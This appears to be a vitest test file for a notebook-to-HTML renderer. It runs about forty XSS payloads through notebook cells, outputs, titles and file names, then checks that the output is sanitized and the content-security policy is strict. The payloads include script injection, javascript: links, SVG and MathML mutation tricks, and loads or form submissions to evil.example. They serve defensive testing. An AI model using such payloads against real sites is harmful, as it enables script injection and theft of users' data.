import { Parser } from "htmlparser2";
import { describe, expect, test } from "vitest";
import { mainOf, page } from "./helpers";
import { codeCell, curveBundle, display, markdownCell, notebookOf, stream } from "./sample";

interface Found {
  readonly tags: Set<string>;
  readonly attributes: [tag: string, name: string, value: string][];
}

/** Every element and attribute that a parser sees. */
function parsed(html: string): Found {
  const found: Found = { tags: new Set(), attributes: [] };
  const parser = new Parser({
    onopentag(name, attributes) {
      found.tags.add(name);
      for (const [key, value] of Object.entries(attributes)) found.attributes.push([name, key, value]);
    },
  });
  parser.end(html);
  return found;
}

const attacks = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  '<img src=x onerror="alert(1)">',
  "<img src='https://evil.example/pixel.png'>",
  "![pixel](https://evil.example/pixel.png)",
  "![x](javascript:alert(1))",
  "[click](javascript:alert(1))",
  "[click](<java\nscript:alert(1)>)",
  "[click](data:text/html,<script>alert(1)</script>)",
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  "<svg><script>alert(1)</script></svg>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x><script>1</script></svg>#x'/></svg>",
  "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
  "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=x.swf></object><embed src=x>",
  "<form action=https://evil.example><input name=p><button>go</button></form>",
  "<style>body{display:none}</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example>",
  '<div style="position:fixed;inset:0;z-index:9">cover</div>',
  '<div style="background:url(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  "</main></body></html><script>alert(1)</script>",
  "<p id=page-main class='page-figure gb-figure' data-mime=x data-page=notebook>mine</p>",
  "<video src=//evil.example/v.mp4 autoplay></video><audio src=x></audio>",
  "```html\n<script>alert(1)</script>\n```",
  "`<script>alert(1)</script>`",
  "$\\href{javascript:alert(1)}{x}$",
  '$\\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
  '$\\mmlToken{mi}[style="position:fixed" id="page-main" class="page-figure"]{x}$',
  "$\\text{<script>alert(1)</script>}$",
  "$$\\unicode{x3c}script>$$",
  "\uE0F00\uE0F1 <b>\uE0F01\uE0F1</b>",
  "# <img src=x onerror=alert(1)> <script>alert(1)</script>",
];

/** A place in the page, a page to go to by a click, or a file beside this one. */
const allowedAddress = /^(#|https?:|mailto:|data:image\/|[^:]*$)/;

/** MathJax's drawings, which refer to glyphs of the page and to nothing else. */
const withoutGlyphs = (html: string): string =>
  html.replace(/<use [^>]*xlink:href="#MJX-[A-Za-z0-9-]+"[^>]*>(<\/use>)?/g, "");

function expectHarmless(html: string, attack: string): void {
  const { tags, attributes } = parsed(withoutGlyphs(html));
  const banned =
    "script style iframe object embed form input button textarea select link meta base video audio foreignobject use animate image noscript";
  for (const tag of banned.split(" ")) expect(tags.has(tag), `<${tag}> of ${attack}`).toBe(false);
  for (const [tag, name, value] of attributes) {
    expect(name.startsWith("on"), `${name} of ${attack}`).toBe(false);
    expect(name, attack).not.toBe("srcset");
    if (name === "href" || name === "src" || name === "xlink:href") {
      expect(value, `${tag} ${name} of ${attack}`).toMatch(allowedAddress);
      if (tag === "img") expect(value, attack).toMatch(/^data:/);
    }
    if (name === "style" && tag !== "mjx-container")
      expect(value, attack).not.toMatch(/url\(|expression|position|z-index/i);
    if (tag === "a" && attack.includes("mmlToken")) expect(value, attack).not.toContain("javascript");
    if (name === "id" && value === "page-main") expect(tag, attack).toBe("main");
    if (name === "data-page" || name === "data-mime") expect.fail(`${name} of ${attack}`);
  }
}

describe("what a notebook holds can only be shown", () => {
  test.each(attacks)("Markdown: %s", (attack) => {
    expectHarmless(mainOf(page(notebookOf([markdownCell(attack)]))), attack);
  });

  test.each(attacks)("outputs: %s", (attack) => {
    const outputs = [
      display({ "text/html": attack }),
      display({ "image/svg+xml": attack }),
      display({ "text/markdown": attack }),
      display({ "text/latex": attack }),
      display({ "text/plain": attack }),
      display({ "application/json": { attack } }),
      stream(attack),
      { output_type: "error", ename: attack, evalue: attack, traceback: [attack] },
    ];
    const html = mainOf(page(notebookOf([codeCell("", outputs)])));
    expectHarmless(html, attack);
  });

  test.each(attacks)("code, title, file name: %s", (attack) => {
    const html = page(notebookOf([markdownCell(`# ${attack}`), codeCell(attack)]), `${attack}.ipynb`);
    expectHarmless(mainOf(html), attack);
    const scripts = html.match(/<script\b[^>]*>/g) ?? [];
    expect(scripts).toEqual([
      '<script type="application/x-ipynb+json" data-encoding="gzip, base64" data-page="notebook">',
      "<script>",
    ]);
  });

  test("a figure's payload stays text in its still drawing", () => {
    const evil = '"><img src=x onerror=alert(1)><script>alert(1)</script>';
    const html = mainOf(page(notebookOf([codeCell("", [display(curveBundle(evil))])])));
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<script");
    expect(html).toContain("&lt;script");
  });

  test("a malformed payload and an unknown newer version are told of in the figure's place", () => {
    const mime = "application/vnd.gradbook.curve.v1+json";
    const broken = mainOf(page(notebookOf([codeCell("", [display({ [mime]: { x: "no", curves: 1e308 } })])])));
    expect(broken).toContain("could not be drawn");
    const newer = { "application/vnd.gradbook.curve.v99+json": {}, "text/plain": "a curve in words" };
    expect(mainOf(page(notebookOf([codeCell("", [display(newer)])])))).toContain("a curve in words");
  });
});

describe("content policy", () => {
  test("allows the page's own scripts by their hash and nothing else", async () => {
    const { createHash } = await import("node:crypto");
    const html = page(notebookOf([markdownCell("x")]));
    const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1] ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:|\*/);
    const scripts = [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map(([, text = ""]) => text);
    expect(scripts).toHaveLength(1);
    for (const script of scripts) {
      expect(policy).toContain(createHash("sha256").update(script).digest("base64"));
    }
    // The policy stands before everything that it governs.
    expect(html.indexOf("Content-Security-Policy")).toBeLessThan(html.indexOf("<style"));
  });
});
